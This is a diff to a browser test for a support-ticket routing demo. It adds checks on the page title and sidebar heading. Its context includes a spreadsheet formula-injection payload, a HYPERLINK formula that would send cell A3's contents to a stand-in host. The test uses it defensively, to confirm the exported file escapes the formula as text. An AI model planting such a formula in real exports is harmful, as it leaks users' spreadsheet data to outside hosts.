@@ -31,6 +31,7 @@ CHROMIUM_ARGS = [
 # Two messages for the Batch page; a spreadsheet would run the first as a formula, as it is.
 FORMULA = '=HYPERLINK("http://example.org/?leak="&A3, "Refund")'
 MESSAGES = [FORMULA, "I was charged twice for my order"]
+PROJECT_NAME = "Support Ticket Router"  # the default answer
 
 
 def download_predictions(page: Page, folder: Path) -> list[str]:
@@ -87,6 +88,8 @@ def test_the_demo_routes_a_message_and_a_file_in_a_real_browser(tmp_path: Path) 
             page = browser.new_page()
             page.goto(f"http://127.0.0.1:{port}/", timeout=60_000)
             page.get_by_role("heading", name="Route a support message").wait_for(timeout=60_000)
+            title = page.title()
+            sidebar = page.get_by_test_id("stSidebarNav").inner_text()
             page.get_by_role("textbox", name="Message", exact=True).fill(
                 "I was charged twice for my order, please refund"
             )
@@ -103,6 +106,8 @@ def test_the_demo_routes_a_message_and_a_file_in_a_real_browser(tmp_path: Path) 
     finally:
         os.killpg(demo.pid, signal.SIGTERM)
         demo.wait(timeout=30)
+    assert PROJECT_NAME in title  # the browser's title, and the sidebar's heading
+    assert PROJECT_NAME in sidebar
     assert routed == "billing"
     assert screenshot.stat().st_size > 10_000  # a rendered page, not a blank one
     assert downloaded == ["'" + FORMULA, MESSAGES[1]]  # the formula is text in a spreadsheet
